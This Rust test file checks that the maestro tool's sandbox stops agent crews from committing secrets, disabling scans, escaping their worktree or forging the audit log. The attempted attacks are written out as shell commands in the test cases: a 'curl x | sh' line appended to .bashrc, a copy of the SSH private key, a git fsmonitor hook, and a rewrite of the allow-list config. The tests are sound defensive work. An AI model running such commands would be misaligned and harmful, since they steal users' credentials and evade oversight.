//! What a crew's own processes try — a command agent (as a Claude crew's Bash would), a gate
//! command running code the crew wrote, a setup command, the crew's own commits — through a
//! real `maestro run` with real git, under the bubblewrap sandbox unless the case says
//! `crews.sandbox: "off"`.

use std::path::Path;

use serde_json::{Value, json};

use super::{
    AWS, Before, Check, Class, GITHUB, SECRETS, STRIPE, Secret, Workspace, audit_len, audited,
    check, judge, unreachable, untouched,
};

/// How the order must end.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Failed, with this in its one-line reason on stderr.
    Failed(&'static str),
    /// Merged into the voyage branch.
    Merged,
    /// Settled with nothing to merge.
    Unchanged,
    /// The run stopped (workspace.json changed), with this on stderr.
    Stopped(&'static str),
    /// Whatever the crew's own exit: what it wrote outside its worktree landed in the
    /// sandbox's private view (its `/tmp`), not on the disk, which is what is checked.
    Contained,
}

struct Case {
    name: String,
    class: Class,
    before: Before,
    secret: Option<Secret>,
    sandbox: bool,
    /// The order (JSON object): id `a`, builder, no retries.
    order: Value,
    /// Prepares the workspace before the run (commits on the voyage branch, say).
    setup: Option<Setup>,
    expect: Expect,
    audit: &'static str,
    /// Further checks after the run.
    after: Option<After>,
    /// The attack writes outside the worktree and succeeds (unsandboxed, by design): what is
    /// checked is that maestro noticed.
    writes_outside: bool,
    /// The secret is in the voyage base already (a fixture the user committed).
    in_base: bool,
    /// Environment of the `maestro run` (what the user exported).
    env: Vec<(&'static str, &'static str)>,
}

type Setup = Box<dyn Fn(&Workspace) + Send + Sync>;
type After = Box<dyn Fn(&Workspace) -> Check + Send + Sync>;

fn crew(script: &str) -> Value {
    json!({"id": "a", "title": "Do it", "role": "builder", "agent": {"command": ["sh", "-c", script]}})
}

impl Case {
    fn new(
        name: impl Into<String>,
        class: Class,
        before: Before,
        secret: Option<Secret>,
        order: Value,
        expect: Expect,
        audit: &'static str,
    ) -> Case {
        Case {
            name: name.into(),
            class,
            before,
            secret,
            sandbox: true,
            order,
            setup: None,
            expect,
            audit,
            after: None,
            writes_outside: false,
            in_base: false,
            env: Vec::new(),
        }
    }

    fn env(mut self, name: &'static str, value: &'static str) -> Case {
        self.env.push((name, value));
        self
    }

    fn unsandboxed(mut self) -> Case {
        self.sandbox = false;
        self
    }

    fn in_base(mut self) -> Case {
        self.in_base = true;
        self
    }

    fn writes_outside(mut self) -> Case {
        self.writes_outside = true;
        self
    }

    fn setup(mut self, f: impl Fn(&Workspace) + Send + Sync + 'static) -> Case {
        self.setup = Some(Box::new(f));
        self
    }

    fn after(mut self, f: impl Fn(&Workspace) -> Check + Send + Sync + 'static) -> Case {
        self.after = Some(Box::new(f));
        self
    }
}

/// Runs one case in a fresh workspace and checks what every case ends with.
fn play(case: &Case) -> Check {
    let ws = Workspace::new();
    ws.configure(|c| {
        c["crews"]["retries"] = json!(0);
        // The seed knows no such key: a survey of it runs unsandboxed, as it always did.
        if !super::surveying() {
            c["crews"]["sandbox"] = json!(if case.sandbox { "on" } else { "off" });
        }
    });
    if let Some(setup) = &case.setup {
        setup(&ws);
    }
    let orders = ws.path().join("orders.json");
    std::fs::write(&orders, json!({"orders": [case.order]}).to_string()).expect("orders");
    let import = ws.maestro(&[
        "voyage",
        "import",
        "v1",
        orders.to_str().expect("utf-8"),
        "-q",
    ]);
    check(import.code == 0, || format!("import: {import:?}"))?;
    std::fs::remove_file(&orders).expect("remove");
    let before = ws.outside();
    let audit_from = audit_len(ws.path());
    let mut command = ws.command(&["run", "v1"]);
    command.envs(case.env.iter().copied());
    let run = super::output(command, None);
    let secret = case.secret.map(|s| s.value);
    let state = order_state(&ws);
    match case.expect {
        Expect::Failed(why) => {
            check(run.code == 1, || {
                format!("run exited {}: {run:?}", run.code)
            })?;
            check(state == "failed", || format!("order is {state}"))?;
            let line = run
                .stderr
                .lines()
                .filter(|l| l.starts_with("error: order a "))
                .collect::<Vec<_>>();
            check(line.len() == 1 && line[0].contains(why), || {
                format!(
                    "no one-line reason holding {why:?} on stderr: {}",
                    run.stderr
                )
            })?;
        }
        Expect::Merged | Expect::Unchanged => {
            check(run.code == 0, || {
                format!("run exited {}: {run:?}", run.code)
            })?;
            check(state == "merged", || format!("order is {state}"))?;
            let unchanged = run.stdout.contains("with nothing to merge (a)");
            check(
                unchanged == matches!(case.expect, Expect::Unchanged),
                || format!("nothing-to-merge reporting is wrong: {}", run.stdout),
            )?;
        }
        Expect::Stopped(why) => {
            check(run.code == 1, || {
                format!("run exited {}: {run:?}", run.code)
            })?;
            check(run.stderr.contains(why), || {
                format!("stderr: {}", run.stderr)
            })?;
        }
        Expect::Contained => {}
    }
    check(
        !secret.is_some_and(|s| run.stdout.contains(s) || run.stderr.contains(s)),
        || "maestro printed the secret".to_owned(),
    )?;
    audited(ws.path(), audit_from, case.audit, secret)?;
    if let Some(secret) = secret {
        if !case.in_base {
            unreachable(ws.path(), secret)?;
        }
        no_clear_copy(ws.path(), secret)?;
    }
    if !case.writes_outside {
        untouched(&ws, &before)?;
    }
    let fsck = ws.repo.git(&["fsck", "--no-progress"]);
    check(fsck.is_ok(), || format!("git fsck: {fsck:?}"))?;
    if let Some(after) = &case.after {
        after(&ws)?;
    }
    Ok(())
}

fn order_state(ws: &Workspace) -> String {
    let status = ws.maestro(&["status", "v1", "--json"]);
    let value: Value = serde_json::from_str(&status.stdout).unwrap_or(Value::Null);
    value["orders"][0]["state"]
        .as_str()
        .unwrap_or("?")
        .to_owned()
}

/// No file maestro keeps in `.mso/` (reports, logs, the audit log, state) holds `secret` in
/// clear, worktrees aside (a refused file stays there for inspection).
fn no_clear_copy(repo: &Path, secret: &str) -> Check {
    let mut holding = Vec::new();
    for (path, bytes) in super::snapshot(&repo.join(".mso"), &["worktrees"]) {
        let name = path.to_string_lossy().into_owned();
        // The order's own spec is the user's input (the scripted crew), not what maestro wrote.
        if name.contains("/orders/") {
            continue;
        }
        if bytes.windows(secret.len()).any(|w| w == secret.as_bytes()) {
            holding.push(name);
        }
    }
    check(holding.is_empty(), || {
        format!("the secret is in clear in {holding:?}")
    })
}

/// The crew's file is still in its worktree, for inspection.
fn kept(file: &'static str) -> impl Fn(&Workspace) -> Check + Send + Sync {
    move |ws| {
        let path = ws.path().join(".mso/worktrees/v1/a").join(file);
        check(path.symlink_metadata().is_ok(), || {
            format!("{} is not kept in the worktree", path.display())
        })
    }
}

fn run_all(group: &str, cases: &[Case]) {
    let results = std::thread::scope(|scope| {
        let mut results = Vec::new();
        for chunk in cases.chunks(4) {
            let handles: Vec<_> = chunk.iter().map(|c| scope.spawn(move || play(c))).collect();
            for (case, handle) in chunk.iter().zip(handles) {
                let result = handle
                    .join()
                    .unwrap_or_else(|_| Err("the case panicked".into()));
                results.push((case.name.clone(), case.class, case.before, result));
            }
        }
        results
    });
    judge(group, &results);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn a_secret_the_crew_writes_itself_never_reaches_a_commit() {
    let mut cases = Vec::new();
    for s in SECRETS {
        cases.push(
            Case::new(
                format!("command agent writes {}", s.rule),
                Class::Commits,
                Before::Committed,
                Some(s),
                crew(&format!(
                    "mkdir -p src && echo \"KEY = '{}'\" > src/config.py",
                    s.value
                )),
                Expect::Failed("nothing was committed"),
                "secret.block",
            )
            .after(kept("src/config.py")),
        );
    }
    cases.push(
        Case::new(
            "key split over two appends",
            Class::Commits,
            Before::Committed,
            Some(AWS),
            crew("printf 'AKIAQ7RPZ3' > k.txt && printf 'MFXW2BKT5L\\n' >> k.txt"),
            Expect::Failed("nothing was committed"),
            "secret.block",
        )
        .after(kept("k.txt")),
    );
    cases.push(
        Case::new(
            "key as a symbolic link's target",
            Class::Commits,
            Before::Committed,
            Some(AWS),
            crew(&format!("ln -s '/etc/{}' link", AWS.value)),
            Expect::Failed("nothing was committed"),
            "secret.block",
        )
        .after(kept("link")),
    );
    cases.push(Case::new(
        "key as a file name",
        Class::Redaction,
        Before::Merged,
        Some(GITHUB),
        crew(&format!(
            "mkdir -p notes && echo hi > 'notes/{}.txt'",
            GITHUB.value
        )),
        Expect::Failed("a file name"),
        "secret.block",
    ));
    cases.push(Case::new("key in a nested directory and an executable", Class::Commits, Before::Committed, Some(STRIPE),
        crew(&format!("mkdir -p a/b/c && printf '#!/bin/sh\\nexport K={}\\n' > a/b/c/run.sh && chmod +x a/b/c/run.sh", STRIPE.value)),
        Expect::Failed("nothing was committed"), "secret.block"));
    run_all("commits", &cases);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn binary_encoded_and_oversized_files_are_scanned_or_refused() {
    let k = AWS.value;
    let cases = vec![
        Case::new(
            "binary file, NUL before the key",
            Class::Unscanned,
            Before::Merged,
            Some(AWS),
            crew(&format!(
                "printf '\\211PNG\\r\\n\\032\\n\\000\\000\\000\\rIHDR\\000{k}\\000\\001' > logo.png"
            )),
            Expect::Failed("nothing was committed"),
            "secret.block",
        ),
        Case::new(
            "UTF-16LE file with BOM",
            Class::Unscanned,
            Before::Merged,
            Some(AWS),
            crew(&format!(
                "printf 'key={k}\\n' | python3 -c 'import sys; sys.stdout.buffer.write(sys.stdin.read().encode(\"utf-16\"))' > wide.txt"
            )),
            Expect::Failed("nothing was committed"),
            "secret.block",
        ),
        Case::new(
            "UTF-16BE file without BOM",
            Class::Unscanned,
            Before::Merged,
            Some(AWS),
            crew(&format!(
                "printf 'key={k}\\n' | python3 -c 'import sys; sys.stdout.buffer.write(sys.stdin.read().encode(\"utf-16-be\"))' > wide-be.txt"
            )),
            Expect::Failed("nothing was committed"),
            "secret.block",
        ),
        Case::new(
            "Latin-1 text around the key",
            Class::Unscanned,
            Before::Committed,
            Some(AWS),
            crew(&format!(
                "printf 'caf\\351 cl\\351 = \"{k}\" \\377\\n' > latin1.txt"
            )),
            Expect::Failed("nothing was committed"),
            "secret.block",
        ),
        Case::new(
            "file above the 10 MiB limit",
            Class::Unscanned,
            Before::Merged,
            Some(AWS),
            crew(&format!(
                "head -c 11000000 /dev/zero | tr '\\0' x > big.txt && echo '{k}' >> big.txt"
            )),
            Expect::Failed("scan.maxFileSize"),
            "secret.block",
        ),
    ];
    run_all("encodings", &cases);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn a_crew_cannot_suppress_its_own_findings() {
    let k = AWS.value;
    let cases = vec![
        Case::new("inline maestro:allow on a line the crew adds", Class::Suppression, Before::Merged, Some(AWS),
            crew(&format!("echo \"KEY = '{k}'  # maestro:allow\" > allowed.py")),
            Expect::Failed("nothing was committed"), "secret.block"),
        Case::new("crew rewrites workspace.json (sandboxed: read-only, hidden)", Class::Suppression, Before::Committed, Some(AWS),
            crew(&format!("echo '{{\"scan\":{{\"allow\":[\"**\"],\"blockSecrets\":false}}}}' > ../../../workspace.json; echo \"K='{k}'\" > k.py")),
            Expect::Failed("nothing was committed"), "secret.block"),
        Case::new("crew rewrites workspace.json (unsandboxed): the run stops", Class::Suppression, Before::Committed, Some(AWS),
            crew(&format!("sed -i 's/\"allow\": \\[\\]/\"allow\": [\"**\"]/' \"$MAESTRO_WORKSPACE/.mso/workspace.json\" && sleep 2 && echo \"K='{k}'\" > k.py")),
            Expect::Stopped("changed while crews ran (scan.allow)"), "config.change")
            .unsandboxed()
            // The crew did write outside its worktree (that is the attack); the run noticed.
            .writes_outside(),
        Case::new("inline allow on a line of the voyage base is honoured and recorded", Class::Suppression, Before::Silent, Some(AWS),
            crew("echo 'print(1)' >> fixture.py"),
            Expect::Merged, "scan.override")
            .in_base()
            .setup(move |ws| {
                ws.repo.write("fixture.py", &format!("KEY = '{k}'  # maestro:allow\n")).expect("write");
                ws.repo.git(&["add", "fixture.py"]).expect("add");
                ws.repo.git(&["commit", "-q", "-m", "fixture"]).expect("commit");
                ws.repo.git(&["branch", "-f", "maestro/v1", "HEAD"]).expect("branch");
            }),
    ];
    run_all("suppression", &cases);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn the_crews_own_commits_are_checked_and_squashed() {
    let k = AWS.value;
    let git = "git -c user.name=crew -c user.email=crew@example.com";
    let cases = vec![
        Case::new("crew commits a key and deletes it in a later commit", Class::Commits, Before::Merged, Some(AWS),
            crew(&format!("echo \"K='{k}'\" > k.py && {git} add k.py && {git} commit -qm add && {git} rm -q k.py && {git} commit -qm remove && echo ok > done.txt")),
            Expect::Failed("in the crew's own commit"), "secret.block")
            .unsandboxed()
            .after(|ws| {
                let tip = ws.repo.git(&["rev-parse", "maestro-crew/v1/a"]).unwrap_or_default();
                let base = ws.repo.git(&["rev-parse", "maestro/v1"]).unwrap_or_default();
                check(tip == base, || format!("the crew branch is at {tip}, not the base {base}"))
            }),
        Case::new("crew amends a key commit away", Class::Commits, Before::Merged, Some(AWS),
            crew(&format!("echo \"K='{k}'\" > k.py && {git} add k.py && {git} commit -qm add && echo clean > k.py && {git} add k.py && {git} commit -q --amend -m clean")),
            Expect::Failed("in the crew's own commit"), "secret.block")
            .unsandboxed(),
        Case::new("crew commits everything itself: its work reaches the voyage", Class::Commits, Before::Lost, None,
            crew(&format!("echo 'x = 1' > own.py && {git} add own.py && {git} commit -qm own")),
            Expect::Merged, "merge")
            .unsandboxed()
            .after(|ws| {
                let shown = ws.repo.git(&["show", "maestro/v1:own.py"]);
                check(shown.as_ref().is_ok_and(|s| s == "x = 1"), || format!("own.py on the voyage: {shown:?}"))?;
                let parents = ws.repo.git(&["log", "--format=%an %p", "-1", "maestro/v1"]).unwrap_or_default();
                check(parents.starts_with("maestro builder") && parents.split_whitespace().count() == 3, || {
                    format!("the voyage head is not one maestro commit with one parent: {parents}")
                })
            }),
        Case::new("crew changes nothing: reported as nothing to merge", Class::Commits, Before::Lost, None,
            crew("true"), Expect::Unchanged, "order.unchanged"),
        Case::new("sandboxed crew cannot commit at all", Class::Commits, Before::Allowed, None,
            crew(&format!("echo x > f.txt && {git} add f.txt && {git} commit -qm sneaky")),
            Expect::Failed("agent failed"), "order.failed")
            .after(|ws| {
                let tip = ws.repo.git(&["rev-parse", "maestro-crew/v1/a"]).unwrap_or_default();
                let base = ws.repo.git(&["rev-parse", "maestro/v1"]).unwrap_or_default();
                check(tip == base, || "the crew moved its branch".to_owned())
            }),
    ];
    run_all("own commits", &cases);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn a_crews_processes_cannot_write_outside_their_worktree() {
    let denied = Expect::Failed("agent failed");
    let failed = "order.failed";
    let cases = vec![
        Case::new(
            "echo x > ../../../workspace.json",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo '{}' > ../../../workspace.json"),
            denied,
            failed,
        ),
        Case::new(
            "write the main checkout",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo pwned > \"$MAESTRO_WORKSPACE/README.md\""),
            denied,
            failed,
        ),
        // The test's home and the directory above the repository lie in /tmp, which is the
        // sandbox's own: the writes land there, never on the disk.
        Case::new(
            "write ~/.bashrc",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo 'curl x | sh' >> \"$HOME/.bashrc\""),
            Expect::Contained,
            "run.start",
        ),
        Case::new(
            "write beside the repository",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo x > \"$MAESTRO_WORKSPACE/../planted-by-a-crew.txt\""),
            Expect::Contained,
            "run.start",
        )
        .after(|ws| {
            let planted = ws
                .path()
                .parent()
                .expect("parent")
                .join("planted-by-a-crew.txt");
            check(!planted.exists(), || "planted.txt was written".to_owned())
        }),
        Case::new(
            "write the git config (a filter run by the user's git)",
            Class::Escape,
            Before::Allowed,
            None,
            crew(
                "git config --file \"$MAESTRO_WORKSPACE/.git/config\" core.fsmonitor 'touch /tmp/pwned'",
            ),
            denied,
            failed,
        ),
        Case::new(
            "write a git hook",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo 'exit 0' > \"$MAESTRO_WORKSPACE/.git/hooks/pre-commit\""),
            denied,
            failed,
        ),
        Case::new(
            "write the audit log",
            Class::Escape,
            Before::Allowed,
            None,
            crew("echo '{}' >> \"$MAESTRO_WORKSPACE/.mso/audit.log\""),
            denied,
            failed,
        ),
        Case::new(
            "read workspace.json",
            Class::Escape,
            Before::Allowed,
            None,
            crew("cat \"$MAESTRO_WORKSPACE/.mso/workspace.json\" > leak.txt"),
            denied,
            failed,
        ),
        Case::new(
            "read ~/.ssh/id_ed25519",
            Class::Escape,
            Before::Allowed,
            None,
            crew("cp \"$HOME/.ssh/id_ed25519\" stolen && test -s stolen"),
            denied,
            failed,
        ),
        Case::new(
            "a run gate executes a crew script that writes outside",
            Class::Escape,
            Before::Allowed,
            None,
            json!({"id": "a", "title": "T", "role": "builder",
                "agent": {"command": ["sh", "-c", "printf 'open(\"../../../workspace.json\", \"w\").write(\"{}\")\\n' > t.py"]},
                "accept": [{"run": "python3 t.py"}]}),
            Expect::Failed("run: python3 t.py"),
            "gate.fail",
        ),
        Case::new(
            "a setup command writes outside",
            Class::Escape,
            Before::Allowed,
            None,
            crew("true"),
            Expect::Failed("setup failed"),
            failed,
        )
        .setup(|ws| {
            ws.configure(|c| c["worktrees"]["setup"] = json!("echo x > ../../../workspace.json"));
        }),
    ];
    run_all("escape", &cases);
}

#[test]
#[cfg_attr(
    not(maestro_sandbox),
    ignore = "needs bubblewrap and socat: scripts/install-sandbox"
)]
fn what_maestro_stores_and_prints_is_redacted() {
    let cases =
        vec![
        Case::new(
            "a token in the order's title",
            Class::Redaction,
            Before::Leaked,
            Some(GITHUB),
            json!({"id": "a", "title": format!("Rotate {}", GITHUB.value), "role": "builder",
                "agent": {"command": ["sh", "-c", "echo done > done.txt"]}}),
            Expect::Merged,
            "merge",
        ),
        Case::new(
            "the user's exported credentials in the crew's environment",
            Class::Redaction,
            Before::Committed,
            Some(GITHUB),
            crew("env > env.txt; echo \"token=$GITHUB_TOKEN stripe=$PAYMENTS_SECRET\" >> env.txt"),
            Expect::Merged,
            "merge",
        )
        .env("GITHUB_TOKEN", GITHUB.value)
        .env("PAYMENTS_SECRET", STRIPE.value)
        .after(|ws| {
            let shown = ws.repo.git(&["show", "maestro/v1:env.txt"]).unwrap_or_default();
            check(
                shown.contains("token= stripe=") && !shown.contains(STRIPE.value),
                || format!("the crew saw the credentials: {shown}"),
            )
        }),
        Case::new(
            "a token the crew prints",
            Class::Redaction,
            Before::Blocked,
            Some(GITHUB),
            crew(&format!(
                "echo 'token {}'; echo done > done.txt",
                GITHUB.value
            )),
            Expect::Merged,
            "merge",
        ),
    ];
    run_all("redaction", &cases);
}

/// The other doors of issue 12's class 6, through the binary: refusals of bad input write
/// nothing at all (the audit log included), so these cases check that instead of an entry.
#[test]
fn the_other_doors_stay_shut() {
    let mut results = Vec::new();

    // A hand-edited voyage.json naming the checked-out branch.
    let ws = Workspace::new();
    let path = ws.path().join(".mso/voyages/v1/voyage.json");
    let mut voyage: Value =
        serde_json::from_str(&std::fs::read_to_string(&path).expect("voyage")).expect("JSON");
    voyage["branch"] = json!("main");
    std::fs::write(&path, voyage.to_string()).expect("write");
    let before = super::snapshot(&ws.path().join(".mso"), &[]);
    let main_before = ws.repo.git(&["rev-parse", "main"]).expect("main");
    let run = ws.maestro(&["run", "v1"]);
    let result: Check = (|| {
        check(run.code == 2, || format!("exit {}: {run:?}", run.code))?;
        super::one_line(&run.stderr, "maestro/v1", None)?;
        check(
            super::snapshot(&ws.path().join(".mso"), &[]) == before,
            || ".mso/ changed".to_owned(),
        )?;
        check(
            ws.repo.git(&["rev-parse", "main"]).ok() == Some(main_before.clone()),
            || "main moved".to_owned(),
        )
    })();
    results.push((
        "voyage.json whose branch is main".to_owned(),
        Class::OtherDoors,
        Before::Allowed,
        result,
    ));

    // A run that fails with exit 2 writes no state file (licence.json included).
    let ws = Workspace::new();
    let before = super::snapshot(&ws.path().join(".mso"), &[]);
    let run = ws.maestro(&["run", "nope"]);
    let result: Check = (|| {
        check(run.code == 2, || format!("exit {}: {run:?}", run.code))?;
        super::one_line(&run.stderr, "nope", None)?;
        check(
            super::snapshot(&ws.path().join(".mso"), &[]) == before,
            || ".mso/ changed".to_owned(),
        )
    })();
    results.push((
        "a failing run writes no state file".to_owned(),
        Class::OtherDoors,
        Before::Allowed,
        result,
    ));

    // A full rewrite of the chain without the key.
    let ws = Workspace::new();
    ws.maestro(&["voyage", "new", "v2", "-q"]);
    let log = ws.path().join(".mso/audit.log");
    let lines: Vec<String> = std::fs::read_to_string(&log)
        .expect("log")
        .lines()
        .map(str::to_owned)
        .collect();
    let dir = tempfile::tempdir().expect("tempdir");
    let forged = dir.path().join("audit.log");
    let mut chain =
        maestro_audit::Chain::open(&forged, maestro_audit::Options::default()).expect("open");
    for line in lines.iter().skip(1) {
        let entry: Value = serde_json::from_str(line).expect("entry");
        chain
            .append(&maestro_audit::Event::new(
                entry["actor"].as_str().expect("actor"),
                entry["action"].as_str().expect("action"),
                entry["subject"].as_str().expect("subject"),
            ))
            .expect("append");
    }
    drop(chain);
    for file in ["audit.log", "audit.head"] {
        std::fs::copy(dir.path().join(file), ws.path().join(".mso").join(file)).expect("copy");
    }
    let verify = ws.maestro(&["audit", "verify"]);
    results.push((
        "a full rewrite of the audit chain without the key".to_owned(),
        Class::OtherDoors,
        Before::Allowed,
        check(verify.code == 1 && verify.stdout.contains("FAILED"), || {
            format!("verify: {verify:?}")
        }),
    ));
    judge("other doors", &results);
}
